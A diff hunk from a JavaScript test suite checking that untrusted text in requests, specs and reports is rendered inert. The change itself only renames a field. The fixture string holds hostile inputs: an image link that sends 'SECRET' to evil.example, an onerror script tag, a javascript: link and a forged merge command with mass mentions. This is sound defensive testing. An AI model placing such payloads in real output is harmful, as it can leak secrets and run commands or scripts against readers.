@@ -68,7 +68,7 @@ describe('security/texts', () => {
   it('row 11: text of others mentions nobody, commands nothing and loads nothing', () => {
     const hostile = '/merge now @team/all fixes #12 and GH-3, see https://evil.example/?d=1\n![x](https://evil.example/?d=SECRET)\n<img src=x onerror=y>\n[click](javascript:x)';
     const evidence = { request: aRequest({ title: hostile, text: hostile }), resolution: aResolution([]), spec: aSpec({ title: hostile, rationale: hostile }), plan: aPlan(), style: null, report: aReport({ message: hostile }), patch: null };
-    const facts = { runUrl: null, startsNoChecks: false, baseMoved: false, earlierBranch: null, newTest: null };
+    const facts = { runUrl: null, startsNoChecks: false, moved: null, earlierBranch: null, newTest: null };
     const bodies = [
       inertMarkdown(hostile),
       finalBody({ state: 'refused', reason: 'done', message: hostile }, null, '', 60_000),
